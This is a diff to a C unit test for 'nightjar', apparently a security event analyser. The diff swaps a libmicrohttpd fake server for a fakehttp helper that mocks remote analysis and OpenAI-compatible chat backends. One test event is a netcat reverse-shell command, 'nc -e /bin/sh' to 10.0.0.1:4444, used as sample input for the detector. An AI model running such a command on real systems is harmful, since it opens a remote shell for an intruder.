@@ -1,7 +1,8 @@
 /*
  * test_remote — the analyst's model stage on a remote backend (remote.h),
- * against a scripted local HTTP server (libmicrohttpd) that plays another
- * nightjar's /v1/analyze or an OpenAI-compatible /v1/chat/completions.
+ * against a scripted local HTTP server (tests/support/fakehttp) that
+ * plays another nightjar's /v1/analyze or an OpenAI-compatible
+ * /v1/chat/completions.
  * What is checked: the spec forms and their errors; that rules decide
  * without the network; batches in order; a rule's floor; retries with
  * backoff; an unavailable backend (NJ_ENET) while rule verdicts still
@@ -14,45 +15,28 @@
 
 #include <arpa/inet.h>
 #include <math.h>
-#include <microhttpd.h>
 #include <netinet/in.h>
-#include <pthread.h>
+#include <sys/socket.h>
+#include <unistd.h>
 
 #include "analyst.h"
 #include "event.h"
+#include "fakehttp.h"
 #include "remote.h"
 #include "util.h"
 
-#define MAX_REQ 64
-
+/* What the fake backend answers (read by answer() under the server's lock). */
 static struct {
-    pthread_mutex_t mu;
-    int   n;                      /* requests seen */
-    char *body[MAX_REQ];
-    char  url[MAX_REQ][64];
-    char  auth[MAX_REQ][96];
-    int   fail_next;              /* answer this many with fail_status */
-    int   fail_status;
     int   max_events;             /* /v1/analyze: more is a 413 (0: no limit) */
     const char *label;            /* what the fake model answers */
     bool  refuse_logprobs;        /* chat: 400 when logprobs are asked for (as nightjar does) */
     bool  give_logprobs;          /* chat: answer with a logprobs block */
     bool  garbage;                /* answer 200 with text that is not JSON */
-} srv = {.mu = PTHREAD_MUTEX_INITIALIZER};
+} srv;
 
-static struct MHD_Daemon *g_mhd;
+static fakehttp *g_http;
 static int g_port;
 static char g_spec[128];
-
-struct upload { char *p; size_t len; };
-
-static enum MHD_Result respond(struct MHD_Connection *c, int status, const char *body) {
-    struct MHD_Response *r = MHD_create_response_from_buffer(strlen(body), (void *)body, MHD_RESPMEM_MUST_COPY);
-    MHD_add_response_header(r, "Content-Type", "application/json");
-    enum MHD_Result ret = MHD_queue_response(c, (unsigned)status, r);
-    MHD_destroy_response(r);
-    return ret;
-}
 
 /* doc as text in malloc'd memory (jansson's is nj_malloc'd); takes doc. */
 static char *dump(json_t *doc) {
@@ -134,91 +118,55 @@ static char *chat_answer(const char *body, int *status) {
     return dump(doc);
 }
 
-static enum MHD_Result handler(void *cls, struct MHD_Connection *c, const char *url, const char *method,
-                               const char *version, const char *data, size_t *data_size, void **con_cls) {
-    (void)cls; (void)method; (void)version;
-    struct upload *u = *con_cls;
-    if (!u) {
-        *con_cls = calloc(1, sizeof *u);
-        return MHD_YES;
-    }
-    if (*data_size) {
-        u->p = realloc(u->p, u->len + *data_size + 1);
-        memcpy(u->p + u->len, data, *data_size);
-        u->len += *data_size;
-        u->p[u->len] = 0;
-        *data_size = 0;
-        return MHD_YES;
-    }
-    pthread_mutex_lock(&srv.mu);
-    if (srv.n < MAX_REQ) {
-        srv.body[srv.n] = strdup(u->p ? u->p : "");
-        snprintf(srv.url[srv.n], sizeof srv.url[0], "%s", url);
-        const char *a = MHD_lookup_connection_value(c, MHD_HEADER_KIND, "Authorization");
-        snprintf(srv.auth[srv.n], sizeof srv.auth[0], "%s", a ? a : "");
-        srv.n++;
-    }
-    int status = 200;
-    char *out = NULL;
-    if (srv.fail_next > 0) {
-        srv.fail_next--;
-        status = srv.fail_status;
-        out = strdup("{\"error\":{\"message\":\"busy\"}}");
-    } else if (srv.garbage) {
-        out = strdup("<html>not json</html>");
-    } else if (!strcmp(url, "/v1/models")) {
-        out = strdup("{\"object\":\"list\",\"data\":[{\"id\":\"m1\",\"object\":\"model\"}]}");
-    } else if (!strcmp(url, "/v1/analyze")) {
-        out = analyze_answer(u->p ? u->p : "", &status);
-    } else if (!strcmp(url, "/v1/chat/completions")) {
-        out = chat_answer(u->p ? u->p : "", &status);
-    } else {
-        status = 404;
-        out = strdup("{\"error\":{\"message\":\"no such route\"}}");
-    }
-    pthread_mutex_unlock(&srv.mu);
-    free(u->p);
-    free(u);
-    *con_cls = NULL;
-    enum MHD_Result r = respond(c, status, out);
-    free(out);
-    return r;
+/* The fake backend: another nightjar's /v1/analyze, an OpenAI-compatible
+ * /v1/models and /v1/chat/completions, or text that is not JSON. */
+static char *answer(void *ud, const fakehttp_req *q, int *status) {
+    (void)ud;
+    if (srv.garbage) return strdup("<html>not json</html>");
+    if (!strcmp(q->url, "/v1/models")) return strdup("{\"object\":\"list\",\"data\":[{\"id\":\"m1\",\"object\":\"model\"}]}");
+    if (!strcmp(q->url, "/v1/analyze")) return analyze_answer(q->body, status);
+    if (!strcmp(q->url, "/v1/chat/completions")) return chat_answer(q->body, status);
+    *status = 404;
+    return strdup("{\"error\":{\"message\":\"no such route\"}}");
 }
 
 static void reset(void) {
-    pthread_mutex_lock(&srv.mu);
-    for (int i = 0; i < srv.n; i++) free(srv.body[i]);
-    srv.n = 0;
-    srv.fail_next = srv.fail_status = srv.max_events = 0;
+    fakehttp_reset(g_http);
+    fakehttp_lock(g_http);
+    srv.max_events = 0;
     srv.label = "suspicious";
     srv.refuse_logprobs = srv.give_logprobs = srv.garbage = false;
-    pthread_mutex_unlock(&srv.mu);
+    fakehttp_unlock(g_http);
 }
 
-static int requests(const char *url) {
-    pthread_mutex_lock(&srv.mu);
-    int k = 0;
-    for (int i = 0; i < srv.n; i++) k += !strcmp(srv.url[i], url);
-    pthread_mutex_unlock(&srv.mu);
-    return k;
+/* The next n requests are refused with status. */
+static void fail_next(int n, int status) {
+    fakehttp_fail_next(g_http, n, status, "{\"error\":{\"message\":\"busy\"}}");
+}
+
+static int requests(const char *url) { return fakehttp_count(g_http, url); }
+
+/* Recorded request i (-1: the latest); the test fails if there is none. */
+static const fakehttp_req *request_at(int i) {
+    const fakehttp_req *q = fakehttp_get(g_http, i);
+    if (!q) fail_msg("no request %d (%d recorded)", i, fakehttp_count(g_http, NULL));
+    return q;
 }
 
 static int server_up(void **state) {
     (void)state;
     event_init();   /* jansson allocates through nj_malloc, here too */
-    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
-    g_mhd = MHD_start_daemon(MHD_USE_INTERNAL_POLLING_THREAD | MHD_USE_THREAD_PER_CONNECTION, 0, NULL, NULL,
-                             handler, NULL, MHD_OPTION_SOCK_ADDR, (struct sockaddr *)&sa, MHD_OPTION_END);
-    if (!g_mhd) return -1;
-    g_port = MHD_get_daemon_info(g_mhd, MHD_DAEMON_INFO_BIND_PORT)->port;
+    g_http = fakehttp_start(answer, NULL, NULL);
+    if (!g_http) return -1;
+    g_port = fakehttp_port(g_http);
     reset();
     return 0;
 }
 
 static int server_down(void **state) {
     (void)state;
-    MHD_stop_daemon(g_mhd);
-    reset();
+    fakehttp_stop(g_http);
+    g_http = NULL;
     return 0;
 }
 
@@ -302,10 +250,8 @@ static void test_nightjar_batches(void **st) {
         json_decref(v[i]);
     }
     /* the remote saw the open events in order, the rule's one not at all */
-    pthread_mutex_lock(&srv.mu);
-    json_t *b0 = json_loads(srv.body[0], 0, NULL), *b1 = json_loads(srv.body[1], 0, NULL);
-    assert_string_equal(srv.auth[0], "Bearer sekrit");
-    pthread_mutex_unlock(&srv.mu);
+    json_t *b0 = json_loads(request_at(0)->body, 0, NULL), *b1 = json_loads(request_at(1)->body, 0, NULL);
+    assert_string_equal(request_at(0)->auth, "Bearer sekrit");
     assert_int_equal(json_array_size(json_object_get(b0, "events")), 16);
     assert_int_equal(json_array_size(json_object_get(b1, "events")), 3);
     int want = 1;
@@ -352,8 +298,7 @@ static void test_rule_floor(void **st) {
 static void test_retries(void **st) {
     (void)st;
     reset();
-    srv.fail_next = 2;
-    srv.fail_status = 503;
+    fail_next(2, 503);
     analyst *a = remote_analyst("nightjar", 3);
     json_t *ev = cmd_event("uname -a", 1), *v = NULL;
     assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
@@ -372,8 +317,7 @@ static void test_retries(void **st) {
 static void test_unavailable(void **st) {
     (void)st;
     reset();
-    srv.fail_next = 1000;
-    srv.fail_status = 503;
+    fail_next(1000, 503);
     analyst *a = remote_analyst("nightjar", 1);
     json_t *evs[3] = {cmd_event("uname -a", 1), cmd_event("nc -e /bin/sh 10.0.0.1 4444", 2), cmd_event("id", 3)};
     json_t *v[3];
@@ -469,9 +413,7 @@ static void test_openai(void **st) {
     json_decref(v);
     assert_int_equal(requests("/v1/models"), 1);
     assert_int_equal(requests("/v1/chat/completions"), 2);   /* with logprobs (400), then without */
-    pthread_mutex_lock(&srv.mu);
-    json_t *req = json_loads(srv.body[srv.n - 1], 0, NULL);
-    pthread_mutex_unlock(&srv.mu);
+    json_t *req = json_loads(request_at(-1)->body, 0, NULL);
     assert_null(json_object_get(req, "logprobs"));
     assert_string_equal(json_string_value(json_object_get(req, "model")), "m1");
     json_t *msgs = json_object_get(req, "messages");
